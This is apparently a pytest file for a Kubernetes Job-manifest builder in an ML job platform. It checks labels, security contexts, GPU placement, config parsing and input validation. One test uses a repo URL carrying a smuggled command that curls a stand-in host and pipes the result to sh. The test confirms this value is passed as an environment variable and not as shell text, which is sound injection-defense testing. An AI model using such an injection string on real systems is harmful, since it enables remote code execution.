"""The Job manifest built for a JobSpec: pure functions, validated with kubernetes-validate."""

from __future__ import annotations

import re
from typing import Any

import kubernetes_validate
import pytest

from app.execution.executor import JobSpec
from app.execution.k8s_manifests import (
    CLONE_SCRIPT,
    JOB_ID_LABEL,
    KIND_LABEL,
    RUN_ID_LABEL,
    KubernetesConfig,
    ManifestError,
    build_job_manifest,
    job_name,
    machine_resources,
    validate_image_reference,
)

SHA = "89abcdef0123456789abcdef0123456789abcdef"
CONFIG = KubernetesConfig()


def spec(**changes: Any) -> JobSpec:
    base: dict[str, Any] = dict(
        job_id="5b2f0c1e-9a7d-4f4e-8c1a-2d3e4f5a6b7c", run_id="run-77", kind="funded",
        repo_url="https://github.com/lab/experiment.git", commit_sha=SHA,
        command="python train.py --epochs 3 --name 'a b'", env={"MLFLOW_RUN_ID": "r1", "MLFLOW_EXPERIMENT_ID": "4"},
        deadline_seconds=3600, image="ghcr.io/lab/trainer:1.2@sha256:" + "a" * 64,
        gpu_type="a100-40gb", gpu_count=2, machine_type="a2-highgpu-2g",
    )  # fmt: skip
    base.update(changes)
    return JobSpec(**base)


def build(s: JobSpec, config: KubernetesConfig = CONFIG) -> dict[str, Any]:
    manifest = build_job_manifest(s, config)
    kubernetes_validate.validate(manifest, "1.33.0", strict=True)
    return manifest


def pod_spec(manifest: dict[str, Any]) -> dict[str, Any]:
    return manifest["spec"]["template"]["spec"]


def test_job_shape() -> None:
    s = spec()
    m = build(s)
    assert (m["apiVersion"], m["kind"]) == ("batch/v1", "Job")
    assert m["metadata"]["namespace"] == "mlpatron-jobs"
    labels = {JOB_ID_LABEL: s.job_id, RUN_ID_LABEL: "run-77", KIND_LABEL: "funded"}
    assert labels.items() <= m["metadata"]["labels"].items()
    assert labels.items() <= m["spec"]["template"]["metadata"]["labels"].items()
    job = m["spec"]
    assert job["backoffLimit"] == 0
    assert job["activeDeadlineSeconds"] == 3600
    assert job["ttlSecondsAfterFinished"] == 3600
    pod = pod_spec(m)
    assert pod["restartPolicy"] == "Never"
    assert pod["automountServiceAccountToken"] is False
    assert pod["volumes"][0] == {"name": "workspace", "emptyDir": {}}


def test_name_is_dns_label_and_stable_per_job_id() -> None:
    s = spec()
    name = job_name(s)
    assert re.fullmatch(r"mlp-funded-5b2f0c1e-[0-9a-f]{6}", name)
    assert job_name(spec()) == name  # a resubmit collides (409) instead of creating a second Job
    assert job_name(spec(job_id="5b2f0c1e-other")) != name
    odd = job_name(spec(job_id="ABC_def.1", kind="Dry_Run"))
    assert re.fullmatch(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?", odd) and len(odd) <= 63


def test_clone_gets_url_and_sha_as_env_not_shell_text() -> None:
    hostile = "https://evil.example.com/x.git;$(curl${IFS}evil.example.com|sh)"
    m = build(spec(repo_url=hostile))
    init = pod_spec(m)["initContainers"][0]
    assert init["image"] == "alpine/git:2.47.2"
    assert init["command"] == ["/bin/sh", "-c", CLONE_SCRIPT]
    env = {e["name"]: e["value"] for e in init["env"]}
    assert env["REPO_URL"] == hostile and env["COMMIT_SHA"] == SHA
    assert hostile not in CLONE_SCRIPT and SHA not in CLONE_SCRIPT
    assert '"$REPO_URL"' in CLONE_SCRIPT and '"$COMMIT_SHA"' in CLONE_SCRIPT
    assert {"name": "workspace", "mountPath": "/workspace"} in init["volumeMounts"]
    sc = init["securityContext"]
    assert sc["runAsNonRoot"] is True and sc["runAsUser"] != 0
    assert sc["allowPrivilegeEscalation"] is False and sc["capabilities"] == {"drop": ["ALL"]}


def test_main_container() -> None:
    s = spec()
    main = pod_spec(build(s))["containers"][0]
    assert main["image"] == s.image
    assert main["command"] == ["/bin/sh", "-c", s.command]
    assert main["workingDir"] == "/workspace"
    env = {e["name"]: e["value"] for e in main["env"]}
    assert env["MLFLOW_RUN_ID"] == "r1" and env["MLFLOW_EXPERIMENT_ID"] == "4" and env["PYTHONUNBUFFERED"] == "1"
    assert main["securityContext"]["allowPrivilegeEscalation"] is False
    assert main["securityContext"]["capabilities"] == {"drop": ["ALL"]}
    limits = main["resources"]["limits"]
    assert limits["nvidia.com/gpu"] == "2"
    assert main["resources"]["requests"] == limits
    # a2-highgpu-2g: 24 vCPU / 170 GiB, minus headroom for the kubelet and daemonsets
    assert limits["cpu"] == "21600m"
    assert 100 * 1024 < int(limits["memory"].removesuffix("Mi")) < 170 * 1024


def test_resources_leave_headroom_on_small_machines() -> None:
    small = machine_resources(4, 15, CONFIG)
    assert small == {"cpu": "3500m", "memory": "12032Mi"}


def test_placement_from_catalog_and_spot() -> None:
    on_demand = pod_spec(build(spec()))
    assert on_demand["nodeSelector"] == {"cloud.google.com/gke-accelerator": "nvidia-tesla-a100"}
    assert {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"} in on_demand["tolerations"]
    terms = on_demand["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
    assert terms == [
        {"matchExpressions": [{"key": "cloud.google.com/gke-spot", "operator": "NotIn", "values": ["true"]}]}
    ]

    spot = pod_spec(build(spec(spot=True)))
    assert spot["nodeSelector"] == {
        "cloud.google.com/gke-accelerator": "nvidia-tesla-a100",
        "cloud.google.com/gke-spot": "true",
    }
    assert {"key": "cloud.google.com/gke-spot", "operator": "Equal", "value": "true", "effect": "NoSchedule"} in spot[
        "tolerations"
    ]
    assert "affinity" not in spot


def test_cpu_only_job_and_default_image() -> None:
    m = build(spec(gpu_type=None, gpu_count=0, machine_type=None, image=None))
    main = pod_spec(m)["containers"][0]
    assert main["image"] == "python:3.11-slim"
    assert main["resources"]["limits"] == {"cpu": "2", "memory": "4Gi"}
    assert "nodeSelector" not in pod_spec(m)


def test_config_from_env() -> None:
    config = KubernetesConfig.from_env(
        {
            "K8S_NAMESPACE": "jobs",
            "K8S_CLONE_IMAGE": "registry.local/git:1",
            "K8S_TTL_SECONDS": "60",
            "K8S_SPOT_NODE_SELECTOR": "pool=spot,tier=cheap",
            "K8S_SPOT_TOLERATIONS": "spot=true:NoSchedule,preemptible:NoExecute",
            "K8S_IMAGE_PULL_SECRETS": "regcred, other",
            "K8S_IN_CLUSTER": "1",
        }
    )
    assert config.namespace == "jobs" and config.clone_image == "registry.local/git:1"
    assert config.ttl_seconds_after_finished == 60
    assert config.spot_node_selector == {"pool": "spot", "tier": "cheap"}
    assert config.spot_tolerations == (
        {"key": "spot", "operator": "Equal", "value": "true", "effect": "NoSchedule"},
        {"key": "preemptible", "operator": "Exists", "effect": "NoExecute"},
    )
    assert config.in_cluster is True
    m = build(spec(spot=True), config)
    assert m["metadata"]["namespace"] == "jobs"
    assert pod_spec(m)["imagePullSecrets"] == [{"name": "regcred"}, {"name": "other"}]
    assert KubernetesConfig.from_env({}) == KubernetesConfig()


@pytest.mark.parametrize(
    "image",
    [
        "python:3.11",
        "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime",
        "localhost:5000/a/b",
        "ghcr.io/x/y@sha256:" + "0" * 64,
    ],
)
def test_valid_image_references(image: str) -> None:
    assert validate_image_reference(image) == image


@pytest.mark.parametrize("image", ["", "python:", "Py Torch", "pytorch/PyTorch", "x@sha256:123", "a//b", ":tag"])
def test_invalid_image_references(image: str) -> None:
    with pytest.raises(ManifestError, match="invalid image reference"):
        validate_image_reference(image)


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"image": "not valid!"}, "invalid image reference"),
        ({"commit_sha": "main"}, "not a full lowercase hex commit sha"),
        ({"repo_url": "file:///srv/repo"}, "cannot be cloned inside the cluster"),
        ({"gpu_type": "t4", "gpu_count": 3, "machine_type": None}, "t4 machines have"),
        ({"gpu_type": "warp-drive"}, "unknown GPU type"),
        ({"gpu_type": None, "gpu_count": 1, "machine_type": None}, "without a GPU type"),
        ({"env": {"BAD NAME": "x"}}, "environment variable name"),
        ({"deadline_seconds": 0}, "deadline_seconds"),
        ({"run_id": "x" * 70}, "cannot be a Kubernetes label value"),
    ],
)
def test_specs_that_cannot_become_jobs(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(ManifestError, match=message):
        build_job_manifest(spec(**changes), CONFIG)


def test_local_repositories_only_for_the_simulated_cluster() -> None:
    """K8S_ALLOW_LOCAL_REPOS: the simulated cluster's kubelet runs here and can clone a path."""
    config = KubernetesConfig.from_env({"K8S_ALLOW_LOCAL_REPOS": "1"})
    for url in ("/srv/repo", "file:///srv/repo"):
        clone = build(spec(repo_url=url), config)["spec"]["template"]["spec"]["initContainers"][0]
        assert {"name": "REPO_URL", "value": url} in clone["env"]
    with pytest.raises(ManifestError, match="cannot be cloned inside the cluster"):
        build_job_manifest(spec(repo_url="file://host/srv/repo"), config)
    assert not KubernetesConfig.from_env({}).allow_local_repos
